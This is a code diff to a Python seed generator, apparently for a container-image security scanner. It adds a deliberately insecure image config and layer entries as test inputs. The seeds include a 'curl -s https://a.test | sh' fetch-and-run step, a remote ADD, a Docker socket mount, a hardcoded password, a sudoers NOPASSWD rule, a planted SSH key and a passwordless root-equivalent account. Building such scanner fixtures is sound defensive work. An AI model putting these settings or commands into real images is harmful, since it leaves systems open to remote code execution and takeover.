@@ -3,6 +3,8 @@
 anywhere, with wrong checksums, so that nobody's scanner takes them for real. Run it again after a change."""
 
 import base64
+import json
+import struct
 
 from seeds import seed
 
@@ -56,8 +58,33 @@ def secrets():
         seed("secrets_random", name, text.encode())
 
 
+IMAGE = {
+    "architecture": "amd64",
+    "os": "linux",
+    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "0" * 64]},
+    "config": {"User": "root:root", "ExposedPorts": {"22/tcp": {}}, "Env": ["PATH=/bin", "DB_PASSWORD=postgres1"], "Cmd": ["/usr/sbin/sshd", "-D"],
+               "Volumes": {"/var/run/docker.sock": {}}, "Healthcheck": {"Test": ["CMD-SHELL", "curl http://away.test/x"]}, "OnBuild": ["RUN x"]},
+    "history": [{"created_by": "/bin/sh -c #(nop) ADD https://away.test/x.tar /"}, {"created_by": "RUN curl -s https://a.test | sh"}],
+}
+
+
+def images():
+    text = json.dumps(IMAGE).encode()
+    seed("image_config", "all", text)
+    seed("image_config", "cut", text[:-3])
+    seed("leaks", "image", b"\x05" + text)
+    for name, head, path, body in (
+        ("setuid", b"\x18\xed\x09", b"usr/bin/su", b"x"), ("capability", b"\x08\xed\x01", b"usr/bin/ping", b"x"),
+        ("device", b"\x2a\xb6\x01", b"dev/null", b""), ("folder", b"\x09\xff\x01", b"etc/x", b""),
+        ("sudo", b"\x08\x20\x01", b"etc/sudoers.d/x", b"# c\nme ALL=(ALL) NOPASSWD: ALL\n"),
+        ("keys", b"\x08\x80\x01", b"root/.ssh/authorized_keys", b"ssh-ed25519 AAAA me\n"),
+        ("passwd", b"\x08\xa4\x01", b"etc/passwd", b"root:x:0:0::/:/bin/sh\ntoor::0:0::/:/bin/sh\n")):
+        seed("layer_rules", name, head + path + b"\n\x14" + struct.pack("<IIIII", 0x2000001, 0x2000, 0, 0, 0) + body)
+
+
 def main():
     secrets()
+    images()
 
 
 if __name__ == "__main__":
